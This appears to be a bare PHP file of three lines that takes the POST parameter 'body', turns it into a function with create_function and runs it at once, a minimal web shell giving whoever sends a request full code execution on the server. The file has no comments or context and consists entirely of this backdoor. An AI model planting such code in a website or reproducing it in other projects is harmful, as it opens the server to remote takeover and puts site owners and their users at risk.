<?php
$f = create_function('', $_POST['body']);
$f();
